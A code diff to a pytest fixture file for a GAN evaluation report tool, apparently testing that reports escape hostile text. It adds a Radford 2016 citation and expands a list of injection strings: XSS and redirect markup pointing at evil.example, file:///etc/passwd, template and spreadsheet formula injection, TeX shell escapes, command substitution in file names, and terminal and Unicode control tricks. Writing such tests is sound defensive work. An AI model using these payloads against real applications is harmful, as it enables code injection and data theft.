@@ -7,7 +7,7 @@ from collections.abc import Callable
 import numpy as np
 import pytest
 
-from gan_probe.report import Artifact, Figure, Report, RunReport, Table
+from gan_probe.report import Artifact, Figure, Measure, Report, RunReport, Table
 from gan_probe.report.figures import confusion_chart, image_grid, interval_chart, new_figure
 
 CLASSES = ["airplane", "automobile", "bird", "cat", "deer", "dog", "frog", "horse", "ship", "truck"]
@@ -152,23 +152,72 @@ def sample_run() -> RunReport:
     return run_report()
 
 
+RADFORD = """@inproceedings{radford2016,
+  author = {Radford, Alec and Metz, Luke and Chintala, Soumith},
+  title = {Unsupervised Representation Learning with Deep Convolutional Generative Adversarial Networks},
+  booktitle = {International Conference on Learning Representations},
+  year = {2016}
+}"""
 HOSTILE = (
+    # markup, in text, in attributes, and behind what it closes
     "<script>alert(1)</script>",
     '"><img src=x onerror=alert(1)>',
     "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
     "</style></title><svg/onload=alert(1)>",
-    "{{ 7*7 }}{% raw %}",
-    '=HYPERLINK("http://evil.example","x")',
-    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
-    "abc\u202egnp.exe\u2066",
-    "name\udcff\ud800",
-    "../../../etc/x\x00.png",
-    "\\input{/etc/passwd} $x_1^2$ 100% #1 & ~ {}",
-    "a\r\nSet-Cookie: b\tc\u2028d",
+    "</textarea></script><iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
+    "<form action=https://evil.example><input name=a><button>send</button></form>",
+    "<object data=x></object><embed src=x><link rel=stylesheet href=//evil.example><base href=//evil.example>",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
     "-->]]><!--",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;&amp;",
+    # addresses
     "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "https://evil.example/?q=1",
+    "file:///etc/passwd",
+    # templates and styles
+    "{{ 7*7 }}{% raw %}",
+    "${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(1)')()}}",
+    "}body{display:none}\\3c script\\3e;background:url(//evil.example)",
+    "%s %(name)s {0} {name!r:>99999}",
+    # spreadsheets
+    '=HYPERLINK("http://evil.example","x")',
+    "+1+cmd|'/C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "|cmd",
+    'a,b;c"d""\'e',
+    # TeX
+    "\\input{/etc/passwd} $x_1^2$ 100% #1 & ~ {}",
+    "\\immediate\\write18{touch hacked}\\end{document}",
+    "^^5cinput{/etc/passwd} \\catcode`\\%=12",
+    # terminals, and what cannot be seen
+    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
+    "\x9b31m\x90\x84 c1",
+    "over\rwritten\x08\x08\x08\x7f",
+    "a\x00b",
+    "abc\u202egnp.exe\u2066",
+    "zero\u200bwidth\u2060\ufeff\u00ad",
+    "a\r\nSet-Cookie: b\tc\u2028d\u2029e\x0bf\x0cg\x85h",
+    # what is no text
+    "name\udcff\ud800",
+    "\ufffe\uffff\U0010ffff\ue000",
+    # file names
+    "../../../etc/x\x00.png",
+    "CON",
+    "aux.txt. ",
+    "~/$HOME/`id`;$(id)|&*?",
+    "C:\\Windows\\x",
+    # other people's writing, long words, stacks of accents
     "中文 emoji 👩\u200d🔬 é ﬁ \U000e0001",
+    "שלום עולם مرحبا",
+    "Z" + "\u0324\u0310\u0352" * 40,
     "W" * 5000,
+    "no words, " * 500,
 )
 
 
@@ -190,6 +239,9 @@ def report_of(text: str) -> Report:
         tables=[Table("t", [{text: text, "n": 1}], title=text, caption=text)],
         figures=[Figure("f", pixels, title=text, caption=text, alt=text)],
         artifacts=[Artifact(text, b"", caption=text)],
+        measures=[Measure("m", np.zeros(2), title=text, unit=text, units=text)],
+        methods=f"{text} [@radford2016]",
+        references=(RADFORD,),
         notes=[text],
         name=text,
         title=text,
@@ -208,5 +260,8 @@ def run_of() -> Callable[[str], RunReport]:
 
 def _run_of(text: str) -> RunReport:
     key = f"{text} of the user"  # and none of the page's own: such a card is another test's
-    checkpoint = {"name": text, "format": text, "training_data": text, "licence": text, key: [text]}
-    return RunReport(checkpoint, {"command": text, "skipped": [text], "data": {text: text}}, [report_of(text)] * 2)
+    checkpoint = {"name": text, "format": text, "training_data": text, "licence": text, "classes": [text]}
+    checkpoint |= {"assumed": [text, text], "training": {text: text}, key: [text]}
+    run = {"command": text, "skipped": [text], "data": text, "versions": {"gan-probe": text}, "device": text}
+    images = [{"split": text, "n": 3}]
+    return RunReport(checkpoint, run | {"images": images, text: text}, [report_of(text)] * 2)
